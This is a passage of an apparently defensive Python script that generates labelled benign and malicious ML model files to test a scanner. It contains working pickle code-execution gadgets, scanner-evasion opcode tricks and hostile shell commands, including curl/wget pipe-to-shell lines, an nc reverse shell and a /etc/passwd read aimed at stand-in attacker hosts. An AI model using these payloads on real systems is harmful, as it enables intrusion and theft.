#!/usr/bin/env python3
"""Deterministic generator of a labelled corpus of benign and malicious ML model files.

    gen_model_corpus.py --out DIR [--copies N] [--seed S] [--labels FILE]
    gen_model_corpus.py --out DIR --large [--large-mb 200] [--labels FILE]

Writes model files of every format `rampart scan` handles and labels.json (DIR/labels.json unless
--labels says otherwise), which maps each file's path relative to DIR to
{"malicious", "technique", "format", "category"}. With --copies N
every sample is written N times (under copy_000/, copy_001/, ...) with small variations: tensor
shapes, values and names, payload commands, pickle protocols.

--large writes a few big benign files (a torch-style checkpoint, a safetensors file, a .npy) of about
--large-mb MB each under DIR/large/, and the same files at a tiny size under DIR/small/, to show
whether scan time grows with tensor data.

Safety: nothing generated here is ever loaded. Malicious pickles are produced either from objects
whose __reduce__ returns a *reference* to the gadget (the pickler writes the reference by name; no
gadget function is ever imported or called) or from hand-assembled opcode bytes.
"""
from __future__ import annotations

import argparse
import base64
import binascii
import bz2
import collections
import copy
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import random
import struct
import sys
import tarfile
import types
import zipfile
import zlib

import numpy as np

# --------------------------------------------------------------------------------------------
# Output bookkeeping
# --------------------------------------------------------------------------------------------


class Corpus:
    def __init__(self, root: str):
        self.root = root
        self.labels: dict[str, dict] = {}

    def add(self, rel: str, data: bytes, *, malicious: bool, technique: str, fmt: str,
            category: str | None = None) -> None:
        path = os.path.join(self.root, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data)
        if rel in self.labels:
            raise SystemExit(f"duplicate sample path {rel}")
        self.labels[rel] = {
            "malicious": malicious,
            "technique": technique,
            "format": fmt,
            "category": category or ("benign" if not malicious else "code-execution"),
        }

    def benign(self, rel, data, technique, fmt):
        self.add(rel, data, malicious=False, technique=technique, fmt=fmt)

    def evil(self, rel, data, technique, fmt, category="code-execution"):
        self.add(rel, data, malicious=True, technique=technique, fmt=fmt, category=category)

    def write_labels(self, path: str):
        with open(path, "w") as f:
            json.dump(self.labels, f, indent=1, sort_keys=True)
            f.write("\n")


# --------------------------------------------------------------------------------------------
# Pickling references to gadgets without importing them
# --------------------------------------------------------------------------------------------


class Ref:
    """A global `module.name` that the GadgetPickler writes by name (GLOBAL / STACK_GLOBAL)."""

    def __init__(self, module: str, name: str):
        self.module, self.name = module, name

    def __call__(self, *args, **kwargs):  # save_reduce insists that the callable be callable
        raise RuntimeError("a Ref is a name for the pickler, never a function")


class Call:
    """Pickles as `func(*args)`: REDUCE on a Ref (or on another Call's result)."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return (self.func, self.args)

    def __call__(self, *args, **kwargs):  # a Call's result may itself be called (REDUCE on REDUCE)
        raise RuntimeError("a Call is pickled, never evaluated")


class GadgetPickler(pickle._Pickler):
    """The pure-Python pickler, taught to write a Ref as the global it names."""

    def __init__(self, file, protocol, persistent=None):
        super().__init__(file, protocol)
        self._persistent = persistent

    def persistent_id(self, obj):
        return self._persistent(obj) if self._persistent else None

    def save(self, obj, save_persistent_id=True):
        if isinstance(obj, Ref):
            memoized = self.memo.get(id(obj))
            if memoized is not None:
                self.write(self.get(memoized[0]))
                return
            if self.proto >= 4:
                self.save(obj.module)
                self.save(obj.name)
                self.write(pickle.STACK_GLOBAL)
            else:
                self.write(pickle.GLOBAL + f"{obj.module}\n{obj.name}\n".encode("utf-8"))
            self.memoize(obj)
            return
        super().save(obj, save_persistent_id)


def gadget_pickle(obj, protocol: int, persistent=None) -> bytes:
    buf = io.BytesIO()
    with fake_torch_registered():
        GadgetPickler(buf, protocol, persistent).dump(obj)
    return buf.getvalue()


# Hand assembly helpers (for opcode tricks a pickler never emits)
def op_str(s: str, proto: int) -> bytes:
    b = s.encode("utf-8")
    if proto == 0:
        return b"V" + s.encode("raw_unicode_escape") + b"\n"
    if proto >= 4 and len(b) < 256:
        return b"\x8c" + bytes([len(b)]) + b
    return b"X" + struct.pack("<I", len(b)) + b


def op_binput(i: int) -> bytes:
    return b"q" + bytes([i])


def op_binget(i: int) -> bytes:
    return b"h" + bytes([i])


# --------------------------------------------------------------------------------------------
# Emulating torch.save without torch
# --------------------------------------------------------------------------------------------

def _make_fake_torch():
    """Stand-in `torch` and `torch._utils` modules: while registered in sys.modules (see
    fake_torch_registered), pickle writes the real global names (torch.FloatStorage,
    torch._utils._rebuild_tensor_v2) exactly as torch.save does."""
    torch = types.ModuleType("torch")
    torch.__fake__ = True
    utils = types.ModuleType("torch._utils")
    for storage in ("FloatStorage", "HalfStorage", "LongStorage", "BFloat16Storage", "IntStorage"):
        cls = type(storage, (), {"__module__": "torch"})
        cls.__qualname__ = storage
        setattr(torch, storage, cls)

    def _rebuild_tensor_v2(*args):
        raise RuntimeError("fake")

    def _rebuild_parameter(*args):
        raise RuntimeError("fake")

    for fn in (_rebuild_tensor_v2, _rebuild_parameter):
        fn.__module__ = "torch._utils"
        fn.__qualname__ = fn.__name__
        setattr(utils, fn.__name__, fn)
    torch._utils = utils
    return torch


TORCH = _make_fake_torch()


class fake_torch_registered:
    """Only while pickling: other libraries (scipy) probe sys.modules['torch'] for real tensors."""

    def __enter__(self):
        if "torch" in sys.modules and sys.modules["torch"] is not TORCH:
            raise SystemExit("a real torch is importable here; the generator must not shadow it")
        sys.modules["torch"], sys.modules["torch._utils"] = TORCH, TORCH._utils

    def __exit__(self, *exc):
        sys.modules.pop("torch", None)
        sys.modules.pop("torch._utils", None)

_DTYPES = {
    "FloatStorage": (np.float32, 4),
    "HalfStorage": (np.float16, 2),
    "LongStorage": (np.int64, 8),
}


class FakeStorage:
    def __init__(self, kind: str, data: np.ndarray):
        self.kind = kind
        self.data = data  # flat array of the storage's dtype

    @property
    def numel(self):
        return int(self.data.size)

    def nbytes(self):
        return self.data.tobytes()


class FakeTensor:
    def __init__(self, storage: FakeStorage, shape, offset=0, requires_grad=False, parameter=False):
        self.storage, self.shape, self.offset = storage, tuple(shape), offset
        self.requires_grad, self.parameter = requires_grad, parameter

    def stride(self):
        strides, acc = [], 1
        for dim in reversed(self.shape):
            strides.append(acc)
            acc *= dim
        return tuple(reversed(strides))

    def __reduce_ex__(self, proto):
        tensor = (TORCH._utils._rebuild_tensor_v2,
                  (self.storage, self.offset, self.shape, self.stride(), self.requires_grad,
                   collections.OrderedDict()))
        if not self.parameter:
            return tensor
        return (TORCH._utils._rebuild_parameter, (_Reduced(tensor), self.requires_grad,
                                                  collections.OrderedDict()))


class _Reduced:
    def __init__(self, reduce_value):
        self.reduce_value = reduce_value

    def __reduce_ex__(self, proto):
        return self.reduce_value


class TorchPersistence:
    """torch.save's persistent_id: storages become ('storage', torch.XStorage, key, 'cpu', numel)."""

    def __init__(self, legacy_keys: random.Random | None = None):
        self.keys: dict[int, str] = {}
        self.storages: dict[str, FakeStorage] = {}
        self.legacy_keys = legacy_keys

    def __call__(self, obj):
        if not isinstance(obj, FakeStorage):
            return None
        key = self.keys.get(id(obj))
        if key is None:
            if self.legacy_keys is not None:  # legacy format used str(id(storage))
                key = str(self.legacy_keys.randrange(94000000000000, 94999999999999))
            else:
                key = str(len(self.keys))
            self.keys[id(obj)] = key
            self.storages[key] = obj
        storage_type = getattr(TORCH, obj.kind)
        if self.legacy_keys is not None:
            return ("storage", storage_type, key, "cpu", obj.numel, None)
        return ("storage", storage_type, key, "cpu", obj.numel)


class _CPickler(pickle.Pickler):
    def __init__(self, file, protocol, persistent):
        super().__init__(file, protocol)
        self._persistent = persistent

    def persistent_id(self, obj):
        return self._persistent(obj)


def torch_pickle(obj, persistence: TorchPersistence, protocol=2, gadgets=False) -> bytes:
    buf = io.BytesIO()
    with fake_torch_registered():
        if gadgets:
            GadgetPickler(buf, protocol, persistence).dump(obj)
        else:
            _CPickler(buf, protocol, persistence).dump(obj)
    return buf.getvalue()


# ---- the zip container exactly as PyTorchStreamWriter (miniz) writes it --------------------

def _torch_padding(cursor: int, name_len: int) -> bytes:
    start = cursor + 30 + name_len + 4
    padding = (-start) % 64
    return b"FB" + struct.pack("<H", padding) + b"Z" * padding


def torch_zip(records: list[tuple[str, bytes]], *, local_names: dict[str, str] | None = None,
              flag_extra: int = 0, bad_crc: set[str] | None = None) -> bytes:
    """records: full member names and contents, in write order. Each member is stored, starts at a
    64-byte aligned offset (the 'FB' extra field), has bit 3 (data descriptor) and bit 11 (UTF-8)
    set, zero DOS time/date, and a 16-byte data descriptor; the archive ends with zip64 end records
    because torch opens the writer with MZ_ZIP_FLAG_WRITE_ZIP64.
    local_names / flag_extra / bad_crc produce the CVE-2025-1944/1945/10156 corruptions."""
    out = io.BytesIO()
    central = io.BytesIO()
    for name, data in records:
        offset = out.tell()
        local_name = (local_names or {}).get(name, name).encode()
        cname = name.encode()
        extra = _torch_padding(offset, len(local_name))
        crc = zlib.crc32(data) & 0xFFFFFFFF
        if bad_crc and name in bad_crc:
            crc ^= 0x5A5A5A5A
        flags = 0x0808 | flag_extra
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 0, flags, 0, 0, 0, 0, 0, 0,
                              len(local_name), len(extra)))
        out.write(local_name)
        out.write(extra)
        assert out.tell() % 64 == 0
        out.write(data)
        out.write(struct.pack("<IIII", 0x08074B50, crc, len(data), len(data)))
        central.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0, 0, flags, 0, 0, 0, crc,
                                  len(data), len(data), len(cname), 0, 0, 0, 0, 0, offset))
        central.write(cname)
    cd_offset = out.tell()
    cd = central.getvalue()
    out.write(cd)
    zip64_eocd = out.tell()
    n = len(records)
    out.write(struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 0x031E, 0x002D, 0, 0, n, n, len(cd), cd_offset))
    out.write(struct.pack("<IIQI", 0x07064B50, 0, zip64_eocd, 1))
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(cd), cd_offset, 0))
    return out.getvalue()


def torch_save_bytes(obj, archive: str = "archive", layout: str = "2.5", *, gadgets=False,
                     extra_records: list[tuple[str, bytes]] = (), **zip_kwargs) -> bytes:
    """torch.save(obj) with the new zipfile serialization. layout picks the record order of
    torch 2.5+ ('2.5'), 2.1-2.4 ('2.1') or 1.6-1.13 ('1.x')."""
    persistence = TorchPersistence()
    data_pkl = torch_pickle(obj, persistence, gadgets=gadgets)
    records = []
    p = archive + "/"
    if layout == "1.x":
        records.append((p + "version", b"3\n"))
    records.append((p + "data.pkl", data_pkl))
    if layout == "2.5":
        records += [(p + ".format_version", b"1"), (p + ".storage_alignment", b"64")]
    if layout in ("2.5", "2.1"):
        records.append((p + "byteorder", b"little"))
    for key, storage in persistence.storages.items():
        records.append((p + f"data/{key}", storage.nbytes()))
    records += [(p + name, data) for name, data in extra_records]
    if layout != "1.x":
        records.append((p + "version", b"3\n"))
        names = sorted(n for n, _ in records)
        sid = "%020d%020d" % (zlib.crc32("|".join(names).encode()) * 7919 % 10**20,
                               zlib.crc32(b"".join(d for _, d in records)))
        records.append((p + ".data/serialization_id", sid.encode()))
    return torch_zip(records, **zip_kwargs)


def torch_legacy_bytes(obj, rng: random.Random, *, gadgets=False, protocol=2) -> bytes:
    """torch.save(obj, _use_new_zipfile_serialization=False): magic number, protocol version,
    sys_info, the object pickle, the sorted storage keys, then each storage as int64 numel + raw."""
    out = io.BytesIO()
    pickle.dump(0x1950A86A20F9469CFC6C, out, protocol=protocol)
    pickle.dump(1001, out, protocol=protocol)
    sys_info = dict(protocol_version=1001, little_endian=True,
                    type_sizes=dict(short=2, int=4, long=4))
    pickle.dump(sys_info, out, protocol=protocol)
    persistence = TorchPersistence(legacy_keys=rng)
    out.write(torch_pickle(obj, persistence, protocol=protocol, gadgets=gadgets))
    keys = sorted(persistence.storages)
    pickle.dump(keys, out, protocol=protocol)
    for key in keys:
        storage = persistence.storages[key]
        out.write(struct.pack("<q", storage.numel))
        out.write(storage.nbytes())
    return out.getvalue()


def make_state_dict(rng: np.random.Generator, prefix: str = "", layers: int = 2, width: int = 8,
                    kind: str = "FloatStorage", tied: bool = False, parameters: bool = False,
                    metadata: bool = True):
    dtype = _DTYPES[kind][0]
    sd = collections.OrderedDict()
    meta = collections.OrderedDict([("", {"version": 1})])
    dims = [width] + [int(rng.integers(4, 3 * width)) for _ in range(layers)]
    for i in range(layers):
        fan_in, fan_out = dims[i], dims[i + 1]
        w = FakeStorage(kind, (rng.standard_normal(fan_in * fan_out) * 10).astype(dtype))
        b = FakeStorage(kind, (rng.standard_normal(fan_out) * 10).astype(dtype))
        name = f"{prefix}layers.{i}"
        sd[f"{name}.weight"] = FakeTensor(w, (fan_out, fan_in), parameter=parameters,
                                          requires_grad=parameters)
        sd[f"{name}.bias"] = FakeTensor(b, (fan_out,), parameter=parameters, requires_grad=parameters)
        meta[name] = {"version": 1}
    if tied:
        first = sd[f"{prefix}layers.0.weight"]
        sd[f"{prefix}tied.weight"] = FakeTensor(first.storage, first.shape)
    sd[f"{prefix}num_batches_tracked"] = FakeTensor(
        FakeStorage("LongStorage", np.array([int(rng.integers(0, 10000))], dtype=np.int64)), ())
    if metadata:
        sd._metadata = meta  # a real state_dict() carries _metadata, which pickle writes via BUILD
    return sd


def make_checkpoint(rng: np.random.Generator):
    sd = make_state_dict(rng, width=int(rng.integers(4, 12)))
    step = FakeTensor(FakeStorage("FloatStorage", np.array([float(rng.integers(1, 900))], np.float32)), ())
    state = {}
    for i, (k, t) in enumerate(sd.items()):
        if t.storage.kind != "FloatStorage":
            continue
        n = t.storage.numel
        state[i] = {"step": step,
                    "exp_avg": FakeTensor(FakeStorage("FloatStorage", rng.standard_normal(n).astype(np.float32)), t.shape),
                    "exp_avg_sq": FakeTensor(FakeStorage("FloatStorage", rng.random(n).astype(np.float32)), t.shape)}
    return {
        "epoch": int(rng.integers(1, 50)),
        "model_state_dict": sd,
        "optimizer_state_dict": {"state": state, "param_groups": [
            {"lr": 0.001, "betas": (0.9, 0.999), "eps": 1e-08, "weight_decay": 0.01, "amsgrad": False,
             "params": list(range(len(state)))}]},
        "loss": float(rng.random()),
        "config": {"hidden": 8, "activation": "gelu", "dropout": 0.1},
    }


# --------------------------------------------------------------------------------------------
# Malicious pickle payloads (graphs of Ref/Call; never evaluated)
# --------------------------------------------------------------------------------------------

COMMANDS = [
    "id",
    "curl -s http://attacker.example/x.sh | sh",
    "touch /tmp/pwned",
    "wget -qO- http://203.0.113.7/p | bash",
    "cat /etc/passwd > /tmp/.x",
    "nc 203.0.113.7 4444 -e /bin/sh",
]


def py_code(cmd: str) -> str:
    return f"import os; os.system({cmd!r})"


def payloads(cmd: str, variant: int) -> dict[str, object]:
    """technique -> object graph whose pickle runs `cmd` (or equivalent harm) when loaded."""
    code = py_code(cmd)
    system_module = ["os", "posix", "nt"][variant % 3]
    inner = gadget_pickle(Call(Ref("os", "system"), cmd), 2)
    P = {
        "os-system": Call(Ref(system_module, "system"), cmd),
        "subprocess-popen": Call(Ref("subprocess", "Popen"), ["/bin/sh", "-c", cmd]),
        "subprocess-check-output": Call(Ref("subprocess", "check_output"), ["sh", "-c", cmd]),
        "builtins-eval": Call(Ref("builtins", "eval"), f"__import__('os').system({cmd!r})"),
        "builtins-exec": Call(Ref("builtins", "exec"), code),
        "getattr-import-chain": Call(Call(Ref("builtins", "getattr"),
                                          Call(Ref("builtins", "__import__"), "os"), "system"), cmd),
        "pkgutil-resolve-name": Call(Call(Ref("pkgutil", "resolve_name"), "os:system"), cmd),
        "importlib-import-module-methodcaller": Call(
            Call(Ref("operator", "methodcaller"), "system", cmd),
            Call(Ref("importlib", "import_module"), "os")),
        "importlib-import-module-getattr": Call(Call(Ref("builtins", "getattr"),
                                                     Call(Ref("importlib", "import_module"), "subprocess"),
                                                     "getoutput"), cmd),
        "operator-attrgetter": Call(Call(Call(Ref("operator", "attrgetter"), "system"),
                                         Call(Ref("builtins", "__import__"), "os")), cmd),
        "functools-partial": Call(Call(Ref("functools", "partial"), Ref("os", "system"), cmd)),
        "timeit-timeit": Call(Ref("timeit", "timeit"), code, "pass", Ref("time", "perf_counter"), 1),
        "cprofile-run": Call(Ref("cProfile", "run"), code),
        "pip-main": Call(Ref("pip", "main"), ["install", "--quiet", "--index-url",
                                             "http://attacker.example/simple", "torch-utils-helper"]),
        "runpy-run-code": Call(Ref("runpy", "_run_code"), code, {}),
        "asyncio-unix-events-submodule": Call(
            Ref("asyncio.unix_events", "_UnixSubprocessTransport._start"),
            Call(Ref("types", "SimpleNamespace")), cmd, True, None, None, None, 0),
        "uuid-get-command-stdout": Call(Ref("uuid", "_get_command_stdout"), "sh", "-c", cmd),
        "logging-filehandler": Call(Ref("logging", "FileHandler"), "/root/.bashrc", "a"),
        "torch-load-gadget": Call(Ref("torch.serialization", "load"), "/tmp/.cache/evil.pt"),
        "torch-storage-load-from-bytes": Call(Ref("torch.storage", "_load_from_bytes"), inner),
        "webbrowser-open": Call(Ref("webbrowser", "open"), "http://attacker.example/phish"),
        "socket-reverse-shell": [Call(Ref("socket", "create_connection"), ("203.0.113.7", 4444)),
                                 Call(Ref("pty", "spawn"), "/bin/sh")],
        "nested-pickle-loads": Call(Ref("pickle", "loads"), inner),
        "nested-_pickle-loads": Call(Ref("_pickle", "loads"), inner),
        "marshal-functiontype": Call(Call(Ref("types", "FunctionType"),
                                          Call(Ref("marshal", "loads"), marshal.dumps(compile(code, "<x>", "exec"))),
                                          {})),
        "numpy-testing-runstring": Call(Ref("numpy.testing._private.utils", "runstring"), code, {}),
        "dict-get-numpy-builtins": Call(Call(Ref("builtins", "dict.get"), Ref("numpy", "__builtins__"), "exec"), code),
        "code-interactive-runsource": Call(Ref("code", "InteractiveInterpreter.runsource"),
                                           Call(Ref("code", "InteractiveInterpreter")), code),
    }
    return P


def min_protocol(technique: str) -> int:
    # bytes arguments below protocol 3 pickle through _codecs.encode; keep those at 3+
    return 3 if technique in ("torch-storage-load-from-bytes", "nested-pickle-loads",
                              "nested-_pickle-loads", "marshal-functiontype") else 0


def hand_memo_confusion_dup(cmd: str) -> bytes:
    """STACK_GLOBAL whose module string reaches the memo via DUP;BINPUT (scanners that record
    'the previous opcode's argument' as the memo value see None)."""
    return (b"\x80\x04" + op_str("os", 4) + b"2" + op_binput(0) + b"0" + b"0"
            + op_str("system", 4) + op_binput(1) + b"0"
            + op_binget(0) + op_binget(1) + b"\x93" + op_str(cmd, 4) + b"\x85R.")


def hand_memo_confusion_swapped(cmd: str) -> bytes:
    """The name is memoised before the module and both are fetched back with BINGET in the
    opposite order from the one they were pushed in."""
    return (b"\x80\x04" + op_str("system", 4) + op_binput(0) + op_str("posix", 4) + op_binput(1)
            + b"00" + op_binget(1) + op_binget(0) + b"\x93" + op_str(cmd, 4) + b"\x85R.")


def hand_memo_confusion_reduce_put(cmd: str) -> bytes:
    """REDUCE;BINPUT then BINGET: the callable is the memoised result of `getattr(os, 'system')`."""
    return (b"\x80\x02" + b"cbuiltins\ngetattr\n" + b"cbuiltins\n__import__\n" + op_str("os", 2) + b"\x85R"
            + op_str("system", 2) + b"\x86R" + op_binput(5) + b"0"
            + b"}" + op_str("w", 2) + b"]" + b"s0"  # benign-looking dict built and dropped
            + op_binget(5) + op_str(cmd, 2) + b"\x85R.")


def hand_second_pickle_after_benign(cmd: str) -> bytes:
    first = pickle.dumps({"weights": [0.1, 0.2, 0.3], "epoch": 3}, protocol=4)
    return first + gadget_pickle(Call(Ref("os", "system"), cmd), 4)


def hand_call_result_popped(cmd: str) -> bytes:
    return (b"\x80\x02" + b"cposix\nsystem\n" + op_str(cmd, 2) + b"\x85R" + b"0"
            + b"}" + op_str("layer.weight", 2) + b"G" + struct.pack(">d", 0.5) + b"s.")


def hand_build_setstate_hijack(cmd: str) -> bytes:
    """BUILD with slot state sets inst.__setstate__ = os.system; a second BUILD calls it."""
    return (b"\x80\x02" + b"ctypes\nSimpleNamespace\n" + b")R"
            + b"N}" + op_str("__setstate__", 2) + b"cos\nsystem\n" + b"s\x86b"
            + op_str(cmd, 2) + b"b.")


def hand_protocol0_text(cmd: str) -> bytes:
    return b"cos\nsystem\n(V" + cmd.encode("raw_unicode_escape") + b"\ntR."


def hand_inst_opcode(cmd: str) -> bytes:
    return b"(V" + cmd.encode("raw_unicode_escape") + b"\nios\nsystem\n."


def hand_obj_opcode(cmd: str) -> bytes:
    return b"(csubprocess\nPopen\n]" + b"(" + op_str("/bin/sh", 1) + op_str("-c", 1) + op_str(cmd, 1) + b"eo."


def hand_ext1(cmd: str) -> bytes:
    """EXT1 resolves its callable through copyreg's extension registry at load time."""
    return b"\x80\x02\x82\xf0" + op_str(cmd, 2) + b"\x85R."


def hand_stack_global_in_list(cmd: str) -> bytes:
    """The call sits inside a list built with MARK ... APPENDS, next to plain data."""
    return (b"\x80\x04" + b"](" + op_str("subprocess", 4)
            + op_str("Popen", 4) + b"\x93" + op_str(cmd, 4) + b"\x85R" + b"K\x01e.")


def truncated_pickle(rng: random.Random) -> bytes:
    data = pickle.dumps({f"layer{i}": [rng.random() for _ in range(20)] for i in range(8)}, protocol=4)
    return data[: len(data) // 2]


HAND_ASSEMBLED = {
    "memo-confusion-dup-binput": (hand_memo_confusion_dup, "evasion"),
    "memo-confusion-swapped-binget": (hand_memo_confusion_swapped, "evasion"),
    "memo-confusion-reduce-binput": (hand_memo_confusion_reduce_put, "evasion"),
    "second-pickle-after-benign": (hand_second_pickle_after_benign, "evasion"),
    "call-result-popped": (hand_call_result_popped, "evasion"),
    "build-setstate-hijack": (hand_build_setstate_hijack, "evasion"),
    "protocol0-text-global": (hand_protocol0_text, "code-execution"),
    "inst-opcode": (hand_inst_opcode, "code-execution"),
    "obj-opcode": (hand_obj_opcode, "code-execution"),
    "ext1-opcode": (hand_ext1, "evasion"),
    "stack-global-in-list": (hand_stack_global_in_list, "code-execution"),
}


# --------------------------------------------------------------------------------------------
# NumPy
# --------------------------------------------------------------------------------------------

def npy_bytes(arr: np.ndarray) -> bytes:
    buf = io.BytesIO()
    np.save(buf, arr, allow_pickle=False)
    return buf.getvalue()


def npy_object_bytes(payload, protocol=3, wrap_in_array=True) -> bytes:
    """What np.save writes for an object array: a v1.0 header with descr '|O', then a pickle."""
    buf = io.BytesIO()
    if wrap_in_array:
        arr = np.empty(2, dtype=object)
        arr[0] = "label"
        arr[1] = payload
        shape = arr.shape
    else:
        arr, shape = payload, (1,)
    np.lib.format.write_array_header_1_0(buf, {"descr": "|O", "fortran_order": False, "shape": shape})
    GadgetPickler(buf, protocol).dump(arr)
    return buf.getvalue()


def npz_bytes(members: dict[str, bytes], compressed=False) -> bytes:
    buf = io.BytesIO()
    method = zipfile.ZIP_DEFLATED if compressed else zipfile.ZIP_STORED
    with zipfile.ZipFile(buf, "w", method) as z:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.compress_type = method
            z.writestr(info, data)
    return buf.getvalue()


def plain_zip(members: list[tuple[str, bytes]], compressed=True) -> bytes:
    return npz_bytes(dict(members), compressed)


def tar_bytes(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size, info.mtime, info.mode = len(data), 1700000000, 0o644
            info.uname = info.gname = "user"
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


# --------------------------------------------------------------------------------------------
# joblib compression (the same stream formats joblib's compressor file objects write)
# --------------------------------------------------------------------------------------------

def joblib_compress(raw: bytes, method: str, level: int = 3) -> bytes:
    if method == "zlib":
        c = zlib.compressobj(level, zlib.DEFLATED, zlib.MAX_WBITS)
        return c.compress(raw) + c.flush()
    if method == "gzip":
        c = zlib.compressobj(level, zlib.DEFLATED, 31)
        return c.compress(raw) + c.flush()
    if method == "bz2":
        return bz2.compress(raw, level)
    if method == "lzma":
        return lzma.compress(raw, format=lzma.FORMAT_ALONE, preset=level)
    if method == "xz":
        return lzma.compress(raw, format=lzma.FORMAT_XZ, check=lzma.CHECK_CRC64, preset=level)
    raise ValueError(method)


def joblib_dump_bytes(obj, compress=None) -> bytes:
    import joblib
    import tempfile
    with tempfile.TemporaryDirectory() as d:
        path = os.path.join(d, "m.joblib")
        joblib.dump(obj, path, compress=compress if compress else 0)
        with open(path, "rb") as f:
            return f.read()


# --------------------------------------------------------------------------------------------
# safetensors
# --------------------------------------------------------------------------------------------

def safetensors_bytes(tensors: dict[str, np.ndarray], metadata=None) -> bytes:
    from safetensors.numpy import save
    return save(tensors, metadata=metadata)


def safetensors_handmade(entries: list[tuple[str, str, list[int], int, int]], data: bytes,
                         metadata=None) -> bytes:
    header = {}
    if metadata is not None:
        header["__metadata__"] = metadata
    for name, dtype, shape, start, end in entries:
        header[name] = {"dtype": dtype, "shape": shape, "data_offsets": [start, end]}
    h = json.dumps(header, separators=(",", ":")).encode()
    h += b" " * ((-len(h)) % 8)
    return struct.pack("<Q", len(h)) + h + data


# --------------------------------------------------------------------------------------------
# Chat templates
# --------------------------------------------------------------------------------------------

BENIGN_TEMPLATES = {
    "chatml": "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}".replace("\\n", "\n"),
    "zephyr": "{% for message in messages %}\n{% if message['role'] == 'user' %}\n{{ '<|user|>\n' + message['content'] + eos_token }}\n{% elif message['role'] == 'system' %}\n{{ '<|system|>\n' + message['content'] + eos_token }}\n{% elif message['role'] == 'assistant' %}\n{{ '<|assistant|>\n'  + message['content'] + eos_token }}\n{% endif %}\n{% if loop.last and add_generation_prompt %}\n{{ '<|assistant|>' }}\n{% endif %}\n{% endfor %}",
    "llama2": "{% if messages[0]['role'] == 'system' %}{% set loop_messages = messages[1:] %}{% set system_message = messages[0]['content'] %}{% else %}{% set loop_messages = messages %}{% set system_message = false %}{% endif %}{% for message in loop_messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}{% if loop.index0 == 0 and system_message != false %}{% set content = '<<SYS>>\\n' + system_message + '\\n<</SYS>>\\n\\n' + message['content'] %}{% else %}{% set content = message['content'] %}{% endif %}{% if message['role'] == 'user' %}{{ bos_token + '[INST] ' + content.strip() + ' [/INST]' }}{% elif message['role'] == 'assistant' %}{{ ' '  + content.strip() + ' ' + eos_token }}{% endif %}{% endfor %}",
    "llama3": "{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n'+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}",
    "qwen25-tools": """{%- if tools %}
    {{- '<|im_start|>system\\n' }}
    {%- if messages[0]['role'] == 'system' %}
        {{- messages[0]['content'] }}
    {%- else %}
        {{- 'You are a helpful assistant.' }}
    {%- endif %}
    {{- "\\n\\n# Tools\\n\\nYou may call one or more functions to assist with the user query.\\n\\nYou are provided with function signatures within <tools></tools> XML tags:\\n<tools>" }}
    {%- for tool in tools %}
        {{- "\\n" }}
        {{- tool | tojson }}
    {%- endfor %}
    {{- "\\n</tools>\\n\\nFor each function call, return a json object with function name and arguments within <tool_call></tool_call> XML tags:\\n<tool_call>\\n{\\"name\\": <function-name>, \\"arguments\\": <args-json-object>}\\n</tool_call><|im_end|>\\n" }}
{%- else %}
    {%- if messages[0]['role'] == 'system' %}
        {{- '<|im_start|>system\\n' + messages[0]['content'] + '<|im_end|>\\n' }}
    {%- else %}
        {{- '<|im_start|>system\\nYou are a helpful assistant.<|im_end|>\\n' }}
    {%- endif %}
{%- endif %}
{%- for message in messages %}
    {%- if (message.role == "user") or (message.role == "system" and not loop.first) or (message.role == "assistant" and not message.tool_calls) %}
        {{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>' + '\\n' }}
    {%- elif message.role == "assistant" %}
        {{- '<|im_start|>' + message.role }}
        {%- if message.content %}
            {{- '\\n' + message.content }}
        {%- endif %}
        {%- for tool_call in message.tool_calls %}
            {%- if tool_call.function is defined %}
                {%- set tool_call = tool_call.function %}
            {%- endif %}
            {{- '\\n<tool_call>\\n{"name": "' }}
            {{- tool_call.name }}
            {{- '", "arguments": ' }}
            {{- tool_call.arguments | tojson }}
            {{- '}\\n</tool_call>' }}
        {%- endfor %}
        {{- '<|im_end|>\\n' }}
    {%- elif message.role == "tool" %}
        {%- if (loop.index0 == 0) or (messages[loop.index0 - 1].role != "tool") %}
            {{- '<|im_start|>user' }}
        {%- endif %}
        {{- '\\n<tool_response>\\n' }}
        {{- message.content }}
        {{- '\\n</tool_response>' }}
        {%- if loop.last or (messages[loop.index0 + 1].role != "tool") %}
            {{- '<|im_end|>\\n' }}
        {%- endif %}
    {%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}
    {{- '<|im_start|>assistant\\n' }}
{%- endif %}
""",
